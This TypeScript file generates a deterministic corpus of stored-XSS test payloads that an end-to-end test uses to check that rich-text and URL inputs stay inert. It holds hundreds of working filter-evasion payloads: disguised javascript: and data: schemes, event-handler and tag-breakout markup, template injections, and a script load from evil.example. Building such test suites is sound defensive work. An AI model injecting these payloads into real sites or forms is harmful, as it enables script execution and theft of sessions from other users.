/**
 * The stored-XSS corpus (issue 8): URL payloads for href-like inputs and
 * HTML/text payloads for every plain or rich text input. Generated
 * deterministically (no randomness), every payload distinct, and every one
 * calls `alert(1)` (or a `javascript:`-style equivalent), so that a payload
 * that ever executes in a browser opens a dialog the end-to-end test counts.
 */

/** What every payload tries to run; a browser dialog with this text means a payload executed. */
export const MARKER = "alert(1)";

const JAVASCRIPT_SPELLINGS = ["javascript", "JAVASCRIPT", "JavaScript", "jAvAsCrIpT", "JaVaScRiPt", "javaSCRIPT"];

/** Ways browsers (or naive filters) let a scheme through: whitespace, control characters, entities. */
const SCHEME_DISGUISES: Array<(scheme: string) => string> = [
  (s) => `${s}:`,
  (s) => ` ${s}:`,
  (s) => `   ${s}:`,
  (s) => `\t${s}:`,
  (s) => `\n${s}:`,
  (s) => `\u0000${s}:`,
  (s) => `\u0001${s}:`,
  (s) => `\u001f${s}:`,
  (s) => `\u00a0${s}:`,
  (s) => `\ufeff${s}:`,
  (s) => `${s.slice(0, 4)}\t${s.slice(4)}:`,
  (s) => `${s.slice(0, 4)}\n${s.slice(4)}:`,
  (s) => `${s.slice(0, 4)}\r${s.slice(4)}:`,
  (s) => `${s.slice(0, 4)}\u0000${s.slice(4)}:`,
  (s) => `${s.slice(0, 2)}\u200b${s.slice(2)}:`,
  (s) => `${s}\t:`,
  (s) => `&#x${s.charCodeAt(0).toString(16)};${s.slice(1)}:`,
  (s) => `&#${s.charCodeAt(0)};${s.slice(1)}:`,
  (s) => `&#x0000${s.charCodeAt(0).toString(16)}${s.slice(1)}:`,
  (s) => `${s}&colon;`,
  (s) => `${s}&#58;`,
  (s) => `${s.slice(0, 4)}&Tab;${s.slice(4)}:`,
  (s) => `${s.slice(0, 4)}&#x09;${s.slice(4)}:`,
  (s) => `${s.slice(0, 4)}&NewLine;${s.slice(4)}:`,
  (s) => `%${s.charCodeAt(0).toString(16)}${s.slice(1)}:`,
  (s) => `${s}%3A`,
];

const JAVASCRIPT_BODIES = [
  MARKER,
  `${MARKER}//`,
  `//%0a${MARKER}`,
  "alert%281%29",
  `void(${MARKER})`,
  `/*x*/${MARKER}`,
];

function distinct(values: string[]): string[] {
  return [...new Set(values)];
}

/** URL payloads: hostile schemes in every disguise, protocol-relative and other off-site forms, and tricky http(s) URLs. */
export const URL_PAYLOADS: readonly string[] = distinct([
  // Every disguise of the scheme, in each case spelling, cycling through script bodies.
  ...JAVASCRIPT_SPELLINGS.flatMap((spelling, spellingIndex) =>
    SCHEME_DISGUISES.map(
      (disguise, index) =>
        `${disguise(spelling)}${JAVASCRIPT_BODIES[(index + spellingIndex) % JAVASCRIPT_BODIES.length]}`,
    ),
  ),
  ...["vbscript", "VBScript", "livescript", "mocha"].flatMap((scheme) =>
    SCHEME_DISGUISES.slice(0, 8).map((disguise) => `${disguise(scheme)}${MARKER}`),
  ),
  ...["data", "DATA", "Data"].flatMap((scheme) =>
    [
      `text/html,<script>${MARKER}</script>`,
      `text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
      `image/svg+xml,<svg onload=${MARKER}>`,
      `application/javascript,${MARKER}`,
      `text/html;charset=utf-8,%3Cscript%3E${MARKER}%3C/script%3E`,
    ].map((body, index) => `${SCHEME_DISGUISES[index % 4](scheme)}${body}`),
  ),
  `javascript://example.org/%0a${MARKER}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${MARKER}//'>`,
  `javascript:eval('al'+'ert(1)')`,
  `javascript:window['alert'](1)`,
  `javascript:\\u0061lert(1)`,
  `javascript:top['al\\x65rt'](1)`,
  `jav&#x0A;ascript:${MARKER}`,
  `jav&#x0D;ascript:${MARKER}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${MARKER}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${MARKER}`,
  `\\x6Aavascript:${MARKER}`,
  `file:///etc/passwd?${MARKER}`,
  `blob:https://example.org/${MARKER}`,
  `filesystem:https://example.org/${MARKER}`,
  `jar:https://example.org/x.jar!/${MARKER}`,
  `about:blank#${MARKER}`,
  `ftp://example.org/${MARKER}`,
  `mailto:x@example.org?body=${MARKER}`,
  `//evil.example/${MARKER}`,
  `///evil.example/${MARKER}`,
  `\\\\evil.example/${MARKER}`,
  `/\\evil.example/${MARKER}`,
  `\\/evil.example/${MARKER}`,
  ` //evil.example/${MARKER}`,
  `https:evil.example/${MARKER}`,
  `http:/evil.example/${MARKER}`,
  `https:/\\evil.example/${MARKER}`,
  `https://`,
  `https:///${MARKER}`,
  `//%0aevil.example/${MARKER}`,
  `/wiki/${MARKER}`,
  `#${MARKER}`,
  `?${MARKER}`,
  MARKER,
  // http(s) URLs that are legal but carry markup: stored, and must stay inert inside the attribute.
  `https://example.org/"><script>${MARKER}</script>`,
  `https://example.org/' onmouseover='${MARKER}`,
  `https://example.org/?q="onmouseover="${MARKER}`,
  `https://example.org/#javascript:${MARKER}`,
  `https://example.org/?u=javascript:${MARKER}`,
  `https://example.org/?q=<svg/onload=${MARKER}>`,
  `https://example.org/</a><img/src=x/onerror=${MARKER}>`,
  `https://javascript:${MARKER}@example.org/`,
  `https://example.org/&quot;onmouseover=&quot;${MARKER}`,
  `https://example.org/&#34;&#62;&#60;script&#62;${MARKER}`,
  `HTTPS://EXAMPLE.ORG/${MARKER}`,
  `hTtP://example.org/${MARKER}`,
  `http://example.org/${MARKER}`,
  `https://example.org/\u202e${MARKER}`,
  `https://example.org/ ${MARKER}`,
  `https://example.org/\t${MARKER}`,
  `https://example.org/\u0000${MARKER}`,
  ` https://example.org/${MARKER}`,
  `https://example.org/${"a".repeat(2100)}${MARKER}`,
]);

const HANDCRAFTED_HTML = [
  `<script>${MARKER}</script>`,
  `<ScRiPt>${MARKER}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=data:,${MARKER}></script>`,
  `<script>/*</script><script>*/${MARKER}</script>`,
  `<scr<script>ipt>${MARKER}</scr</script>ipt>`,
  `<svg><script>${MARKER}</script></svg>`,
  `<svg><script>alert&#40;1&#41;</script>`,
  `<img src=x onerror=${MARKER}>`,
  `<IMG SRC=x ONERROR=${MARKER}>`,
  `<img src=x onerror="&#x61;lert(1)">`,
  `<img src=x onerror=${MARKER}//`,
  `<img """><script>${MARKER}</script>">`,
  `<img src="x\`onerror=${MARKER}>`,
  `<img src=x:${MARKER} onerror=eval(src)>`,
  `<img\u0000src=x onerror=${MARKER}>`,
  `<img/src=x/onerror=${MARKER}>`,
  `<svg onload=${MARKER}>`,
  `<svg/onload=${MARKER}>`,
  `<svg onload=${MARKER}`,
  `<svg><animate onbegin=${MARKER} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${MARKER}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${MARKER}'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARKER}>`,
  `<body onload=${MARKER}>`,
  `<iframe src="javascript:${MARKER}"></iframe>`,
  `<iframe srcdoc="<script>${MARKER}</script>"></iframe>`,
  `<object data="javascript:${MARKER}"></object>`,
  `<embed src="javascript:${MARKER}">`,
  `<base href="javascript:${MARKER}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${MARKER}">`,
  `<link rel=import href="data:text/html,<script>${MARKER}</script>">`,
  `<form action="javascript:${MARKER}"><button>x</button></form>`,
  `<button formaction="javascript:${MARKER}">x</button>`,
  `<a href="javascript:${MARKER}">x</a>`,
  `<a href=javascript&colon;${MARKER}>x</a>`,
  `<a href="&#x6A;avascript:${MARKER}">x</a>`,
  `<a href=" javascript:${MARKER}">x</a>`,
  `<a href="jav\tascript:${MARKER}">x</a>`,
  `<a href="data:text/html,<script>${MARKER}</script>">x</a>`,
  `<a href="vbscript:${MARKER}">x</a>`,
  `<details open ontoggle=${MARKER}>`,
  `<input autofocus onfocus=${MARKER}>`,
  `<select autofocus onfocus=${MARKER}>`,
  `<textarea autofocus onfocus=${MARKER}>`,
  `<video><source onerror=${MARKER}></video>`,
  `<audio src=x onerror=${MARKER}>`,
  `<marquee onstart=${MARKER}>x</marquee>`,
  `<div style="background:url(javascript:${MARKER})">x</div>`,
  `<div style="width:expression(${MARKER})">x</div>`,
  `<style>@import 'javascript:${MARKER}';</style>`,
  `<x onclick=${MARKER}>click</x>`,
  `<table background="javascript:${MARKER}">`,
  `<isindex action=javascript:${MARKER} type=image>`,
  `<template><script>${MARKER}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARKER}>">`,
  `<!--<img src="--><img src=x onerror=${MARKER}//">`,
  `<![CDATA[<script>${MARKER}</script>]]>`,
  `<?xml-stylesheet href="javascript:${MARKER}"?>`,
  `&lt;script&gt;${MARKER}&lt;/script&gt;`,
  `&#60;script&#62;${MARKER}&#60;/script&#62;`,
  `\\u003cscript\\u003e${MARKER}\\u003c/script\\u003e`,
  `%3Cscript%3E${MARKER}%3C/script%3E`,
  `{{constructor.constructor('${MARKER}')()}}`,
  `\${${MARKER}}`,
  `#{${MARKER}}`,
  `"};${MARKER};//`,
  `'-${MARKER}-'`,
  `\\";${MARKER};//`,
  `</script><script>${MARKER}</script>`,
  `</title><script>${MARKER}</script>`,
  `</textarea><script>${MARKER}</script>`,
  `</style><script>${MARKER}</script>`,
  `--!><script>${MARKER}</script>`,
  `javascript:${MARKER}`,
  `data:text/html,<script>${MARKER}</script>`,
  `[[javascript:${MARKER}]]`,
  `[x](javascript:${MARKER})`,
  `<a href="https://example.org" onmouseover="${MARKER}">x</a>`,
  `<div onpointerenter=${MARKER}>x</div>`,
  `<p style="animation-name:x" onanimationstart=${MARKER}>x</p>`,
  `\u202e<script>${MARKER}</script>`,
  `<scr\u0000ipt>${MARKER}</scr\u0000ipt>`,
];

const EVENT_TAGS = [
  "img src=x",
  "svg",
  "body",
  "iframe",
  "video src=x",
  "input autofocus",
  "details open",
  "a href=#",
  "div tabindex=1",
  "marquee",
];
const EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin"];
const BREAKOUT_PREFIXES = [
  `"`,
  `'`,
  `">`,
  `'>`,
  `"/>`,
  `</a>`,
  `</title>`,
  `</textarea>`,
  `-->`,
  `]]>`,
  "`",
  `</noscript>`,
];
const BREAKOUT_CORES = [`<script>${MARKER}</script>`, `<img src=x onerror=${MARKER}>`, ` onmouseover=${MARKER} x="`];

/** HTML and text payloads: markup, event handlers, attribute and element breakouts, template and JSON injections. */
export const HTML_PAYLOADS: readonly string[] = distinct([
  ...HANDCRAFTED_HTML,
  ...EVENT_TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${MARKER}>`)),
  ...BREAKOUT_PREFIXES.flatMap((prefix) => BREAKOUT_CORES.map((core) => `${prefix}${core}`)),
]);

/** Every payload, URL ones first. */
export const ALL_PAYLOADS: readonly string[] = distinct([...URL_PAYLOADS, ...HTML_PAYLOADS]);
